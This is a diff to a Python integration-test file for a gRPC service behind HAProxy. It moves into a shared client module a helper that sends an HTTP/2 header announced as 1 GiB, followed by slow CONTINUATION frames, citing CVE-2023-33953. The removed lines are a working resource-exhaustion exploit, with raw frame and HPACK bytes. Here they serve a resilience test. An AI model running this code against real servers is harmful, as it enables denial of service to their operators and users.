@@ -5,7 +5,6 @@ import signal
 import socket
 import subprocess
 import threading
-import time
 
 import grpc
 import psutil
@@ -23,7 +22,7 @@ from harness import (
     status_of,
     wait_until,
 )
-from http2_client import connect
+from http2_client import announce_a_gigabyte_of_header
 
 CONFIG = "deploy/haproxy/haproxy.cfg"
 
@@ -116,31 +115,6 @@ def test_a_coordinator_without_groups_gets_no_calls(cluster, tmp_path, tiny_mode
         assert health(edge.target, "liveness") == "UNAVAILABLE"
     finally:
         edge.stop()
-
-
-def frame(kind, flags, stream, data):
-    return len(data).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + data
-
-
-def announce_a_gigabyte_of_header(target, seconds, most_bytes):
-    """CVE-2023-33953: one header field announced as 1 GiB, its bytes sent in CONTINUATION frames, slowly.
-    Returns how many were taken before the connection was cut."""
-    headers, continuation, settings = 1, 9, 4
-    # :method POST, :scheme http, then a literal "a" whose value has 2^30 bytes.
-    block = b"\x83\x86\x00\x01a\x7f\x81\xff\xff\xff\x03"
-    sent = 0
-    with connect(target) as attacker:
-        attacker.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(settings, 0, 0, b""))
-        attacker.sendall(frame(headers, 0, 1, block + b"x" * 1000))
-        deadline = time.monotonic() + seconds
-        try:
-            while time.monotonic() < deadline and sent < most_bytes:
-                attacker.sendall(frame(continuation, 0, 1, b"x" * 16000))
-                sent += 16000
-                time.sleep(0.001)
-        except OSError:
-            pass
-    return sent
 
 
 def test_slow_endless_headers_leave_the_service_calm(serving, stub, edge):
